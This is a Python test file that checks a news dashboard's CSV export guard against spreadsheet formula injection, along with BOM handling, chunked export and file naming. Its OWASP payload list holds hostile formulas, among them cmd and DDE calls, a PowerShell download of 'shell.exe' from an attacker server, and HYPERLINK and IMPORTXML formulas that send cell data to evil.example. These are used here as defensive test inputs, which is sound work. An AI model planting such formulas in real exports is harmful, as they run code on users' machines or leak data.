"""CSV exports: formula-injection guard (OWASP payloads, real CSV round trip), BOM, names."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from ingest import queries, store
from ingest.queries import Filters
from tests.spreadsheet import would_evaluate
from ui import export

# The OWASP "CSV Injection" payloads, plus the tab / carriage-return forms it lists.
OWASP = [
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "+thespanishinquisition(cmd|'/c calc'!A0)",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1&A2,"Error: please click here")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMAGE("https://evil.example/x.png")',
    "\t=1+1",
    "\r=1+1",
]
assert len(OWASP) == 13


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_owasp_payloads_in_every_text_column_are_neutralised() -> None:
    n = len(OWASP)
    frame = pd.DataFrame(
        {
            "title": OWASP,
            "summary": list(reversed(OWASP)),
            "outlet": [" " + p for p in OWASP],
            "byline": ["\ufeff\u200b" + p for p in OWASP],
            "articles": list(range(-6, n - 6)),
            "share": [-0.5 + i / 10 for i in range(n)],
        }
    )
    rows = read_back(export.to_csv_bytes(frame))
    assert rows[0] == ["title", "summary", "outlet", "byline", "articles", "share"]
    body = rows[1:]
    assert len(body) == n
    evaluated = [cell for row in body for cell in row[:4] if would_evaluate(cell)]
    assert evaluated == []
    # The text survives behind the apostrophe, so nothing is lost.
    assert [row[0] for row in body] == ["'" + p for p in OWASP]
    # Numeric columns are unchanged, negative numbers included.
    assert [int(row[4]) for row in body] == list(range(-6, n - 6))
    assert [float(row[5]) for row in body] == frame["share"].tolist()


def test_unicode_text_and_bom_for_excel() -> None:
    frame = pd.DataFrame({"title": ["Presiden Prabowo", "Россия и КНДР", "朝鲜与俄罗斯", "북한"]})
    data = export.to_csv_bytes(frame)
    assert data[:3] == b"\xef\xbb\xbf"
    assert [r[0] for r in read_back(data)[1:]] == list(frame["title"])


def test_harmless_cells_are_left_alone() -> None:
    for value in ("Indonesia", "3 killed", "e-mail", "", "a=b", "100%"):
        assert export.guard_cell(value) == value
    assert export.guard_cell(42) == 42
    assert export.guard_cell(None) is None


@given(st.text(max_size=60))
def test_guard_never_raises_and_never_leaves_a_formula(text: str) -> None:
    guarded = export.guard_cell(text)
    assert isinstance(guarded, str)
    assert not would_evaluate(guarded)
    assert guarded in (text, "'" + text)


def test_chunked_export_equals_one_frame_and_respects_the_limit() -> None:
    frames = [pd.DataFrame({"title": [f"=x{i}", f"t{i}"], "n": [i, -i]}) for i in range(5)]
    whole = export.to_csv_bytes(pd.concat(frames, ignore_index=True))
    assert export.chunks_to_csv_bytes(iter(frames)) == whole
    limited = read_back(export.chunks_to_csv_bytes(iter(frames), limit=3))
    assert len(limited) == 1 + 3


def test_file_name_carries_the_filters() -> None:
    f = Filters(date(2024, 6, 1), date(2024, 6, 30), pair=("RUS", "PRK"))
    assert (
        export.file_name("pair-articles", f)
        == "pantau_pair-articles_prk-rus_2024-06-01_2024-06-30.csv"
    )
    assert export.file_name("feeds") == "pantau_feeds.csv"


def test_article_export_from_a_real_store_is_safe(dashboard_store) -> None:  # noqa: ANN001
    engine = store.make_engine(dashboard_store.url)
    f = Filters(date(2000, 1, 1), date(2030, 12, 31))
    frames = (fr.drop(columns=["id"]) for fr in queries.iter_articles(engine, f, chunk=50))
    rows = read_back(export.chunks_to_csv_bytes(frames))
    header, body = rows[0], rows[1:]
    assert header == ["published_at", "title", "summary", "url", "outlet", "language",
                      "countries", "topics", "entities", "story"]  # fmt: skip
    assert len(body) == len(dashboard_store.rows)
    assert not [cell for row in body for cell in row if would_evaluate(cell)]
    titles = {row[1] for row in body}
    assert '\'=HYPERLINK("http://evil.example","Indonesia")' in titles
    engine.dispose()
